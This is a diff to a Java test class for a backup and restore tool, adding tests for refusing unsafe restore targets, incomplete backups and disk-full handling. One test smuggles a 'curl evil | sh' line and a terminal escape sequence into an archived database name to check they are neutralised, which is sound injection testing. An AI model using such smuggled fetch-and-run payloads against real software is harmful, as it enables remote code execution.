@@ -149,6 +149,23 @@ class RefusalTest {
   }
 
   @Test
+  void theNameOfADatabaseDoesNotBecomeACommandInTheNote() throws Exception {
+    Path archive = bench.shelf.resolve("hostile.gpg");
+    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+    try (Secret secret = Secret.owning(Workbench.PASSPHRASE.toCharArray());
+        OutputStream out = PgpEncryption.toPassphrase(bytes, secret)) {
+      out.write(
+          Forge.begun(Forge.plan("databases/db/x.dump", "db/x\ncurl evil | sh\n\u001b[2J"))
+              .finished());
+    }
+    Files.write(archive, bytes.toByteArray());
+    bench.restoreTo(archive, folder.resolve("restored"));
+    String note = Files.readString(folder.resolve("restored/DATABASES.txt"));
+    assertThat(note.lines()).noneMatch(line -> line.startsWith("curl"));
+    assertThat(note).doesNotContain("\u001b").contains("'databases/db/x.dump'");
+  }
+
+  @Test
   void aFolderWithSomethingInItIsNotRestoredInto() throws Exception {
     Path archive = bench.archive();
     Path target = Files.createDirectory(folder.resolve("restored"));
@@ -163,6 +180,39 @@ class RefusalTest {
     assertThat(codes(bench.restoreTo(archive, Path.of("/proc"))))
         .containsExactly("Refused BACKUP-NOT-EMPTY");
     assertThat(Workbench.names(target)).containsExactly("mine");
+  }
+
+  @Test
+  void aFolderThatOthersMayWriteToIsNotRestoredInto() throws Exception {
+    Path archive = bench.archive();
+    Path open = Files.createDirectory(folder.resolve("open"));
+    Files.setAttribute(open, "unix:mode", 0777);
+    assertThat(codes(bench.restoreTo(archive, open.resolve("restored"))))
+        .containsExactly("Refused BACKUP-UNSAFE-PARENT");
+    assertThat(Workbench.names(open)).isEmpty();
+    Files.setAttribute(open, "unix:mode", 01777);
+    assertThat(codes(bench.restoreTo(archive, open.resolve("restored")))).isEmpty();
+    if (!ROOT) {
+      System.out.println("unproven: a folder of somebody else (giving one away takes root)");
+      return;
+    }
+    Path foreign = Files.createDirectory(folder.resolve("foreign"));
+    Files.setAttribute(foreign, "unix:uid", 65534);
+    assertThat(codes(bench.restoreTo(archive, foreign.resolve("restored"))))
+        .containsExactly("Refused BACKUP-UNSAFE-PARENT");
+  }
+
+  @Test
+  void aHalfWrittenCardIsWrittenAgain() throws Exception {
+    Path archive = bench.archive();
+    Path card = RecoveryCard.path(archive);
+    String whole = Files.readString(card);
+    Files.move(card, ArchiveFile.part(card));
+    Files.writeString(ArchiveFile.part(card), "This te");
+    RecoveryCard.write(
+        archive, Compression.ZSTD, new BackupShelf(bench.home).list().getFirst().id());
+    assertThat(card).hasContent(whole);
+    assertThat(ArchiveFile.part(card)).doesNotExist();
   }
 
   @Test
@@ -226,7 +276,7 @@ class RefusalTest {
                 new Watching(2_000_000, true, () -> {}));
     assertThat(codes(restore)).containsExactly("Failed BACKUP-CANCELLED");
     assertThat(Workbench.names(folder)).containsExactly("bench");
-    assertThat(new Unfinished(bench.home).list()).isEmpty();
+    assertThat(new Unfinished(bench.home).ids()).isEmpty();
   }
 
   @Test
@@ -239,10 +289,14 @@ class RefusalTest {
                 Files.write(bench.source.resolve("big"), new byte[10], StandardOpenOption.APPEND));
     Outcome<BackupReceipt> outcome =
         bench.creation(StepBoundary.none()).run(bench.request(), growing);
-    BackupReceipt receipt = ((Outcome.Done<BackupReceipt>) outcome).receipt();
+    assertThat(codes(outcome)).containsExactly("Attention BACKUP-INCOMPLETE");
+    BackupReceipt receipt = ((Outcome.Attention<BackupReceipt>) outcome).receipt();
     assertThat(receipt.changed()).containsExactly("files/data/big");
-    assertThat(bench.verification().run(receipt.archive(), Workbench.unlocking(), Progress.none()))
-        .isInstanceOf(Outcome.Done.class);
+    Outcome<VerificationReport> verified =
+        bench.verification().run(receipt.archive(), Workbench.unlocking(), Progress.none());
+    assertThat(((Outcome.Done<VerificationReport>) verified).receipt().changed())
+        .containsExactly("files/data/big");
+    assertThat(new BackupShelf(bench.home).list().getFirst().complete()).isFalse();
   }
 
   @Test
@@ -252,9 +306,14 @@ class RefusalTest {
             1_000_000, false, () -> Files.write(bench.source.resolve("big"), new byte[10]));
     Outcome<BackupReceipt> outcome =
         bench.creation(StepBoundary.none()).run(bench.request(), shrinking);
-    BackupReceipt receipt = ((Outcome.Done<BackupReceipt>) outcome).receipt();
+    assertThat(codes(outcome)).containsExactly("Attention BACKUP-INCOMPLETE");
+    BackupReceipt receipt = ((Outcome.Attention<BackupReceipt>) outcome).receipt();
     assertThat(receipt.changed()).containsExactly("files/data/big");
-    bench.restoreTo(receipt.archive(), folder.resolve("restored"));
+    Outcome<RestoreReceipt> restored =
+        bench.restoreTo(receipt.archive(), folder.resolve("restored"));
+    assertThat(codes(restored)).containsExactly("Attention BACKUP-RESTORED-WITH-GAPS");
+    assertThat(((Outcome.Attention<RestoreReceipt>) restored).receipt().changed())
+        .containsExactly("files/data/big");
     assertThat(Files.size(folder.resolve("restored/files/data/big"))).isEqualTo(5_000_000);
   }
 
@@ -299,6 +358,7 @@ class RefusalTest {
       System.out.println("unproven: a full disk (mounting one takes root)");
       return;
     }
+    Files.write(bench.source.resolve("more"), Workbench.random(40_000_000, 2));
     Path archive = bench.archive();
     Path small = Files.createDirectory(folder.resolve("small"));
     List<String> prefix =
@@ -308,8 +368,9 @@ class RefusalTest {
             "--",
             "sh",
             "-c",
-            "mount -t tmpfs -o size=3m tmpfs \"$0\" && \"$@\"; s=$?; ls -A \"$0\" > \"$0.list\";"
-                + " exit $s",
+            // Room enough for the guard's guess, but not for what does not get smaller.
+            "mount -t tmpfs -o size=32m tmpfs \"$0\" && \"$@\"; s=$?; ls -A \"$0\" >"
+                + " \"$0.list\"; exit $s",
             small.toString());
     Files.delete(bench.shelf.resolve(archive.getFileName() + ".txt"));
     Path kept = folder.resolve("kept.gpg");
@@ -320,9 +381,10 @@ class RefusalTest {
     int created =
         KillAtStep.fork(folder.resolve("log"), prefix, "", "create", bench.root.toString());
     assertThat(created).isEqualTo(1);
-    assertThat(Files.readString(folder.resolve("log")))
-        .containsAnyOf("BACKUP-DISK-FULL", "BACKUP-NO-ROOM");
+    assertThat(Files.readString(folder.resolve("log"))).contains("BACKUP-DISK-FULL");
     assertThat(folder.resolve("small.list")).hasContent("");
+    assertThat(new Unfinished(bench.home).ids()).isEmpty();
+    assertThat(bench.endings()).containsExactly("backup.create 1");
 
     int restored =
         KillAtStep.fork(
@@ -334,8 +396,7 @@ class RefusalTest {
             kept.toString(),
             small.resolve("restored").toString());
     assertThat(restored).isEqualTo(1);
-    assertThat(Files.readString(folder.resolve("log")))
-        .containsAnyOf("BACKUP-DISK-FULL", "BACKUP-NO-ROOM");
+    assertThat(Files.readString(folder.resolve("log"))).contains("BACKUP-NO-ROOM");
     assertThat(folder.resolve("small.list")).hasContent("");
   }
 
